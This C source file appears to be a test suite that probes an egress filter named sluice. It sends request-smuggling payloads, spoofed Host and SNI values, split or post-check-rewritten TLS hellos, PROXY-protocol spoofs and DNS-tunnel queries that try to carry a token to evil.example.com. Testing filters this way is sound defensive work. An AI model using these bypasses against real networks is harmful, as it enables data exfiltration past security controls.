// SPDX-License-Identifier: Apache-2.0
/*
 * Names. NAMED_V4 and NAMED_V6 are registered as allowed.example.com, HTTP on 80 and TLS on 443: another name must
 * not get through there, nor anything through sluice's redirector. And DNS.
 */
#include <fcntl.h>
#include <netinet/tcp.h>
#include <sys/mman.h>
#include <sys/sendfile.h>

#include "escape.h"

#define REDIRECTOR_PORT 15001

static int named(struct context *c, uint16_t port)
{
	struct endpoint to = endpoint_at(NAMED_V4, NAMED_V6, c, port);
	int fd = socket_for(c, SOCK_STREAM, 0), result;

	if (fd < 0)
		return failed(c, "socket");
	result = dial(c, fd, &to);
	if (result < 0) {
		close(fd);
		return result;
	}
	return fd;
}

/* Sends what it was given, reads until nothing comes; 1 if the token came back. */
static int speak(struct context *c, int fd, const void *bytes, size_t n)
{
	int result = send(fd, bytes, n, MSG_NOSIGNAL) == (ssize_t)n ? await_echo(c, fd) : failed(c, "send");

	close_hard(fd);
	return result;
}

enum http { OTHER_HOST, ABSOLUTE_FORM, CONNECT_METHOD, SECOND_REQUEST, TWO_HOSTS, SMUGGLED_TE, SMUGGLED_CL, NO_HOST, PRIOR_HTTP2 };

static int http(struct context *c)
{
	char request[512];
	int n = 0, fd = named(c, 80);

	if (fd < 0)
		return fd;
	switch ((enum http)c->method->variant) {
	case OTHER_HOST:
		n = sprintf(request, "GET /%s HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", c->token);
		break;
	case ABSOLUTE_FORM:
		n = sprintf(request, "GET http://evil.example.com/%s HTTP/1.1\r\nHost: %s\r\n\r\n", c->token, ALLOWED_NAME);
		break;
	case CONNECT_METHOD:
		n = sprintf(request, "CONNECT %s:%u HTTP/1.1\r\nHost: %s\r\n\r\n%s", FORBIDDEN_V4, c->port, ALLOWED_NAME, c->token);
		break;
	case SECOND_REQUEST:
		n = sprintf(request, "GET / HTTP/1.1\r\nHost: %s\r\n\r\nGET /%s HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", ALLOWED_NAME, c->token);
		break;
	case TWO_HOSTS:
		n = sprintf(request, "GET /%s HTTP/1.1\r\nHost: %s\r\nHost: evil.example.com\r\n\r\n", c->token, ALLOWED_NAME);
		break;
	case SMUGGLED_TE:
		n = sprintf(request, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
			    "GET /%s HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", ALLOWED_NAME, c->token);
		break;
	case SMUGGLED_CL:
		n = sprintf(request, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: 100\r\n\r\n"
			    "GET /%s HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", ALLOWED_NAME, c->token);
		break;
	case NO_HOST:
		n = sprintf(request, "GET /%s HTTP/1.0\r\n\r\n", c->token);
		break;
	case PRIOR_HTTP2:
		n = sprintf(request, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s", c->token);
		break;
	}
	return speak(c, fd, request, (size_t)n);
}

/* ---- TLS ---- */

static uint8_t *put(uint8_t *at, const void *bytes, size_t n)
{
	memcpy(at, bytes, n);
	return at + n;
}

static uint8_t *put16(uint8_t *at, size_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
	return at + 2;
}

/* A ClientHello with the given server names (NULL: none), `random` in its random. */
static size_t client_hello(uint8_t *out, const char *name, const char *second, const char *random)
{
	uint8_t *at = out + 9, *extensions, *list;

	memset(out, 0, 128);
	at = put16(at, 0x0303);
	memset(at, 'r', 32);
	memcpy(at, random, TOKEN_LENGTH);
	at += 32;
	*at++ = 0;
	at = put(at, "\0\2\x13\1\1\0", 6);
	extensions = at;
	at += 2;
	if (name) {
		at = put16(at, 0);
		list = at;
		at += 4;
		for (int i = 0; i < 2; i++) {
			const char *one = i ? second : name;

			if (!one)
				continue;
			*at++ = 0;
			at = put16(at, strlen(one));
			at = put(at, one, strlen(one));
		}
		put16(list, (size_t)(at - list - 2));
		put16(list + 2, (size_t)(at - list - 4));
	}
	at = put(at, "\0\x2b\0\3\2\3\4", 7); /* TLS 1.3 */
	put16(extensions, (size_t)(at - extensions - 2));
	put(out, "\x16\3\1", 3);
	put16(out + 3, (size_t)(at - out - 5));
	out[5] = 1;
	put16(out + 7, (size_t)(at - out - 9));
	return (size_t)(at - out);
}

enum tls { OTHER_NAME, NO_NAME, TWO_NAMES, NOT_TLS, SPLIT };

static int tls(struct context *c)
{
	uint8_t hello[512];
	char evil[64];
	size_t n = 0;
	int fd = named(c, 443), one = 1;
	enum tls kind = (enum tls)c->method->variant;

	if (fd < 0)
		return fd;
	snprintf(evil, sizeof(evil), "%s.evil.example.com", c->token);
	switch (kind) {
	case OTHER_NAME:
	case SPLIT: n = client_hello(hello, evil, NULL, "rrrrrrrr"); break;
	case NO_NAME: n = client_hello(hello, NULL, NULL, c->token); break;
	case TWO_NAMES: n = client_hello(hello, ALLOWED_NAME, evil, "rrrrrrrr"); break;
	case NOT_TLS: n = (size_t)sprintf((char *)hello, "SSH-2.0-%s\r\n", c->token); break;
	}
	if (kind != SPLIT)
		return speak(c, fd, hello, n);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	for (size_t at = 0; at < 40; at++)
		(void)!send(fd, hello + at, 1, MSG_NOSIGNAL);
	return speak(c, fd, hello + 40, n - 40);
}

/*
 * The check outrun (facts): the allowed hello, sent from a page cache, dies at the router; what TCP sends again is what
 * the page holds by then.
 */
static int tls_rewritten(struct context *c)
{
	uint8_t hello[512];
	char evil[64];
	int fd = named(c, 443), file = memfd_create("hello", MFD_CLOEXEC), one = 1, ttl = 1, far = 64, result = 0;
	int level = is_v6(c) ? (int)IPPROTO_IPV6 : (int)IPPROTO_IP, option = is_v6(c) ? IPV6_UNICAST_HOPS : IP_TTL;
	size_t n = client_hello(hello, ALLOWED_NAME, NULL, "rrrrrrrr");

	if (fd < 0)
		return fd;
	snprintf(evil, sizeof(evil), "%s%s", c->token, ALLOWED_NAME + TOKEN_LENGTH);
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (write(file, hello, n) != (ssize_t)n || setsockopt(fd, level, option, &ttl, sizeof(ttl)) < 0)
		return failed(c, "TTL");
	lseek(file, 0, SEEK_SET);
	if (sendfile(fd, file, NULL, n) != (ssize_t)n)
		result = failed(c, "sendfile");
	n = client_hello(hello, evil, NULL, "rrrrrrrr");
	if (result == 0 && pwrite(file, hello, n, 0) != (ssize_t)n)
		result = failed(c, "pwrite");
	setsockopt(fd, level, option, &far, sizeof(far));
	/* The first retransmission is due after 200 ms or so. */
	if (result == 0) {
		c->patience_ms = c->patience_ms < 700 ? 700 : c->patience_ms;
		result = await_echo(c, fd);
	}
	close_hard(fd);
	return result;
}

/* ---- the redirector, spoken to directly ---- */

enum direct { DIRECT_HTTP, DIRECT_TLS, DIRECT_PROXY_PROTOCOL, DIRECT_STALE };

static int direct(struct context *c)
{
	struct endpoint to = endpoint_at("127.0.0.1", "::1", c, REDIRECTOR_PORT);
	struct sockaddr nobody = {.sa_family = AF_UNSPEC};
	enum direct kind = (enum direct)c->method->variant;
	uint8_t bytes[512];
	char evil[64];
	size_t n;
	int fd;

	if (kind == DIRECT_STALE) {
		/* A redirected socket's record must not serve the next connection. */
		fd = named(c, 80);
		if (fd < 0)
			return fd;
		if (connect(fd, &nobody, sizeof(nobody)) < 0)
			return failed(c, "AF_UNSPEC");
	} else {
		fd = socket_for(c, SOCK_STREAM, 0);
	}
	if (dial(c, fd, &to) < 0) {
		close(fd);
		return failed(c, "connect to the redirector");
	}
	snprintf(evil, sizeof(evil), "%s.evil.example.com", c->token);
	if (kind == DIRECT_TLS)
		n = client_hello(bytes, ALLOWED_NAME, NULL, c->token);
	else if (kind == DIRECT_PROXY_PROTOCOL)
		n = (size_t)sprintf((char *)bytes, "PROXY TCP4 10.88.0.2 %s 1234 %u\r\n%s", FORBIDDEN_V4, c->port, c->token);
	else
		n = (size_t)sprintf((char *)bytes, "GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", c->token,
				    kind == DIRECT_STALE ? ALLOWED_NAME : FORBIDDEN_V4);
	return speak(c, fd, bytes, n);
}

/* An allowed name, dialled at the forbidden address: sluice dials the name's own address. No packet goes where we dialled. */
static int named_elsewhere(struct context *c)
{
	char request[128];
	int n = sprintf(request, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", ALLOWED_NAME), fd = socket_for(c, SOCK_STREAM, 0);
	struct endpoint to = with_port(c->to, 80);

	c->port = 80;
	c->patience_ms = 100;
	if (dial(c, fd, &to) < 0) {
		close(fd);
		return failed(c, "connect");
	}
	return speak(c, fd, request, (size_t)n);
}

/* ---- DNS ---- */

enum dns { DNS_UNLISTED, DNS_UNLISTED_TCP, DNS_TUNNEL };

static size_t question(const struct context *c, uint8_t *out)
{
	static const uint8_t head[12] = {0x65, 0x73, 1, 0, 0, 1};
	uint8_t *at = put(out, head, sizeof(head));

	*at++ = TOKEN_LENGTH;
	at = put(at, c->token, TOKEN_LENGTH);
	at = put(at, "\7example\3com\0\0\1\0\1", 17);
	return (size_t)(at - out);
}

static int dns(struct context *c)
{
	enum dns kind = (enum dns)c->method->variant;
	struct endpoint to = kind == DNS_TUNNEL ? endpoint_at("203.0.113.53", "2001:db8:113::53", c, 53)
						: endpoint_at("203.0.113.54", "2001:db8:113::54", c, 53);
	int fd = socket_for(c, kind == DNS_UNLISTED_TCP ? SOCK_STREAM : SOCK_DGRAM, 0), result = 0;
	uint8_t bytes[128];
	size_t n = question(c, bytes + 2);

	if (fd < 0)
		return failed(c, "socket");
	put16(bytes, n);
	if (kind == DNS_UNLISTED_TCP) {
		result = dial(c, fd, &to);
		if (result == 0)
			return speak(c, fd, bytes, n + 2);
		close(fd);
		return result;
	}
	if (sendto(fd, bytes + 2, n, 0, (struct sockaddr *)&to.addr, to.length) < 0)
		result = failed(c, "sendto");
	else
		result = await_echo(c, fd);
	close(fd);
	return result;
}

const struct method redirector_methods[] = {
	{"http-host", "HTTP to a registered address, another Host", "", V4 | V6, 0, http, NULL, OTHER_HOST},
	{"http-absolute", "HTTP absolute form of another host", "", V4 | V6, 0, http, NULL, ABSOLUTE_FORM},
	{"http-connect", "HTTP CONNECT to a forbidden address", "", V4 | V6, 0, http, NULL, CONNECT_METHOD},
	{"http-second", "second request of a connection, another Host", "", V4 | V6, 0, http, NULL, SECOND_REQUEST},
	{"http-two-hosts", "HTTP with two Host headers", "", V4 | V6, 0, http, NULL, TWO_HOSTS},
	{"http-smuggle-te", "request smuggled behind Transfer-Encoding", "", V4 | V6, 0, http, NULL, SMUGGLED_TE},
	{"http-smuggle-cl", "request smuggled behind two Content-Lengths", "", V4 | V6, 0, http, NULL, SMUGGLED_CL},
	{"http-no-host", "HTTP/1.0 without Host", "", V4 | V6, 0, http, NULL, NO_HOST},
	{"http2-prior", "HTTP/2 with prior knowledge", "", V4 | V6, 0, http, NULL, PRIOR_HTTP2},
	{"http-elsewhere", "an allowed Host, dialled at a forbidden address", "", V4 | V6, TUPLE, named_elsewhere, NULL, 0},
	{"tls-name", "TLS to a registered address, another name", "", V4 | V6, 0, tls, NULL, OTHER_NAME},
	{"tls-no-name", "TLS without a name", "", V4 | V6, 0, tls, NULL, NO_NAME},
	{"tls-two-names", "TLS with an allowed and another name", "", V4 | V6, 0, tls, NULL, TWO_NAMES},
	{"tls-split", "another name, byte by byte", "", V4 | V6, 0, tls, NULL, SPLIT},
	{"tls-not", "something else on a TLS port", "", V4 | V6, 0, tls, NULL, NOT_TLS},
	{"tls-rewritten", "hello rewritten after the check: sendfile, memfd, TTL", "", V4 | V6, 0, tls_rewritten, NULL, 0},
	{"direct-http", "HTTP to the redirector's own port", "", V4 | V6, ENFORCED_ONLY, direct, NULL, DIRECT_HTTP},
	{"direct-tls", "TLS to the redirector's own port", "", V4 | V6, ENFORCED_ONLY, direct, NULL, DIRECT_TLS},
	{"direct-proxy", "PROXY protocol to the redirector's own port", "", V4 | V6, ENFORCED_ONLY, direct, NULL, DIRECT_PROXY_PROTOCOL},
	{"direct-stale", "redirected socket, AF_UNSPEC, the redirector's own port", "", V4 | V6, ENFORCED_ONLY, direct, NULL, DIRECT_STALE},
	{"dns-unlisted", "DNS to a server that is not listed", "", V4 | V6, 0, dns, NULL, DNS_UNLISTED},
	{"dns-unlisted-tcp", "DNS over TCP to a server that is not listed", "", V4 | V6, 0, dns, NULL, DNS_UNLISTED_TCP},
	{"dns-tunnel", "data in the names asked of a listed server: allowed", "", V4 | V6, LIMIT, dns, NULL, DNS_TUNNEL},
	{0},
};
